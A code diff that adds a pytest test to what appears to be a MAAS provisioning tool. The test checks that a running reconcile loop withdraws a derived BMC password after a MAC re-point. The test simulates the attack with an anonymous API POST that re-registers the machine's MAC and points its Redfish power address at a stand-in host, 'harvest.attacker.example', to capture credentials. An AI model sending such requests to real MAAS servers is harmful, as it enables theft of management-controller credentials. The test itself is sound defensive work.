@@ -724,3 +724,57 @@ def test_a_mac_re_point_holds_no_derived_password_after_one_cycle(real_maas, sit
     fresh.restore(Audit.read_file(str(log)))
     fresh.cycle()
     assert every_holder(real_maas, derived) == set()
+
+
+@pytest.mark.parametrize("status", ["New", "Commissioning"])
+def test_the_running_loop_takes_a_mac_re_pointed_password_back_within_one_cycle(real_maas, site, tmp_path,
+                                                                                 status):
+    """`reconcile --interval 2` as the service runs it: after a MAC re-point without a password,
+    MAAS holds the derived password nowhere within one interval and one cycle (margin: three)."""
+    import time
+
+    real_maas.set_stub(True)
+    namespace = f"loop-{status[:3].lower()}"
+    serial = f"web1.{namespace}"
+    written = run_script(site["script"], serial, tmp_path / "vm")
+    power_type = written.pop("power_type")
+    mac = new_mac()
+    vm = real_maas.enlist(written, mac, power_type=power_type, finish=status == "New")
+    assert vm.status == 200, vm.body
+    values = yaml.safe_load(site["values"].read_text())
+    values["maas"].update(commission="never", audit_log=str(tmp_path / "audit.log"))
+    values_file = tmp_path / "values.yaml"
+    values_file.write_text(yaml.safe_dump(values))
+    interval = 2
+    derived = identity.bmc_password(SEED, serial)
+
+    def wait_for(condition, what: str, limit: float = 90.0) -> float:
+        start = time.monotonic()
+        while not condition():
+            assert time.monotonic() - start < limit, f"{what}: not within {limit} s"
+            assert service.poll() is None, (service.returncode, (tmp_path / "err").read_text())
+            time.sleep(0.2)
+        return time.monotonic() - start
+
+    with open(tmp_path / "out", "w") as out, open(tmp_path / "err", "w") as err:
+        service = subprocess.Popen([str(CLI), "--values", str(values_file), "reconcile", "--interval", str(interval)],
+                                   stdout=out, stderr=err)
+        try:
+            wait_for(lambda: every_holder(real_maas, derived) == {vm.system_id}, "the derived password set")
+            harvest = f"{namespace}.harvest.attacker.example"
+            answer = real_maas.api("POST", "machines/", {
+                "architecture": "amd64/generic", "mac_addresses": mac, "power_type": "redfish",
+                "power_parameters": json.dumps({"power_address": harvest, "power_user": "maas", "node_id": "1"})},
+                anonymous=True)
+            assert answer.status_code == 200 and answer.json()["system_id"] == vm.system_id, answer.text
+            took = wait_for(lambda: every_holder(real_maas, derived) == set(), "the password taken back",
+                            limit=3 * (interval + 10))
+        finally:
+            service.terminate()
+            service.wait(timeout=60)
+    print(f"MAC re-point in {status}: derived password gone from MAAS after {took:.1f} s (interval {interval} s)")
+    resets = [r for r in Audit.read_file(str(tmp_path / "audit.log")) if r["action"] == "reset-password"]
+    assert [(r["system_id"], r["outcome"], r.get("leak")) for r in resets] == [(vm.system_id, "ok", True)]
+    logged = (tmp_path / "out").read_text() + (tmp_path / "err").read_text()
+    assert derived not in logged and identity.bmc_user(SEED, serial) not in logged
+    assert f"rotate {serial}" in logged     # no cluster access here: the command is named
